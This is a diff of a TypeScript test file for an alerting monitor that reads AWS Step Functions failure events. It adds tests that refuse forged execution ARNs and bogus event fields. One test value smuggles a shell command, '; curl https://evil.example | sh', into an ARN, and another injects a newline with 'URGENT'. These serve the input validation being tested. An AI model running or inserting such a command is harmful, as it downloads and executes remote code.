@@ -5,6 +5,8 @@ import { ACCOUNT } from './support/subjects';
 
 const executionArn = `arn:aws:states:us-east-1:${ACCOUNT}:execution:p-permissions-boundary:one`;
 
+const watched = { accountId: ACCOUNT, machine: 'p-permissions-boundary' };
+
 /** The event of a run that failed, as Step Functions sends it. */
 const anEvent = (detail: Record<string, unknown> = {}) => ({
   version: '0',
@@ -22,7 +24,7 @@ const anEvent = (detail: Record<string, unknown> = {}) => ({
   },
 });
 
-const messageOf = (detail: Record<string, unknown>) => watchMessageOf(JSON.stringify(anEvent(detail)));
+const messageOf = (detail: Record<string, unknown>) => watchMessageOf(JSON.stringify(anEvent(detail)), watched);
 
 describe('a message of the watch', () => {
   it('tells of a run that failed, and why', () => {
@@ -45,7 +47,17 @@ describe('a message of the watch', () => {
   });
 
   it('is the daily one', () => {
-    expect(watchMessageOf(WATCH)).toEqual({ kind: 'days-since-success' });
+    expect(watchMessageOf(WATCH, watched)).toEqual({ kind: 'days-since-success' });
+  });
+
+  it.each([
+    executionArn.replace(ACCOUNT, '999999999999'),
+    executionArn.replace('p-permissions-boundary', 'p-permissions-boundary/audit'),
+    executionArn.replace('p-', 'q-'),
+    `${executionArn}; curl https://evil.example | sh`,
+    `${executionArn}'\nURGENT`,
+  ])('about the execution %s is refused: people run a command with its name', (arn) => {
+    expect(() => messageOf({ executionArn: arn })).toThrow('executionArn names no execution');
   });
 
   it.each([
@@ -55,9 +67,10 @@ describe('a message of the watch', () => {
       JSON.stringify(anEvent({ status: 'SUCCEEDED' })),
       /detail.status: expected one of FAILED, TIMED_OUT/,
     ],
+    ['a redrive that never was', JSON.stringify(anEvent({ redriveCount: 1e9 })), /detail.redriveCount/],
     ['no start', JSON.stringify(anEvent({ startDate: null })), /detail.startDate: missing, or no number/],
   ])('with %s is refused', (_, body, message) => {
-    expect(() => watchMessageOf(body)).toThrow(message);
+    expect(() => watchMessageOf(body, watched)).toThrow(message);
   });
 });
 
@@ -80,10 +93,16 @@ describe('days since the last success', () => {
     expect(await daysSinceSuccess(now, 'base', store)).toBe(1.5);
   });
 
-  it('are never less than none', async () => {
+  it('are never less than none, where clocks differ a little', async () => {
+    const store = aStore();
+    await noteSuccess(run, new Date(now.getTime() + 60_000), 'base', store);
+    expect(await daysSinceSuccess(now, 'base', store)).toBe(0);
+  });
+
+  it('are not counted from a time to come: the alarm would be silent until then', async () => {
     const store = aStore();
     await noteSuccess(run, at('20'), 'base', store);
-    expect(await daysSinceSuccess(now, 'base', store)).toBe(0);
+    await expect(daysSinceSuccess(now, 'base', store)).rejects.toThrow('which is to come');
   });
 
   it('name the object that is not as agreed', async () => {
